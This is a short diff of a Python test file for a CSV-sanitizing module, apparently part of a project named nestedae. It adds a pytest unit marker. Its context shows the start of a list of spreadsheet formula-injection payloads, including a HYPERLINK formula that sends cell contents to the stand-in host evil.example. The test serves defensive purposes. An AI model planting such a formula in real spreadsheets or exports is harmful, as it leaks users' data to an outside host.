@@ -30,6 +30,8 @@ from nestedae_core.cli import main
 from nestedae_core.csv_safe import MAX_COLUMNS, MAX_LINE_BYTES, check_table_bytes, neutralize_cell, neutralize_frame, open_checked
 from nestedae_core.errors import InputError
 
+pytestmark = pytest.mark.unit
+
 #: Text cells a spreadsheet runs as formulas (the OWASP list of first characters).
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
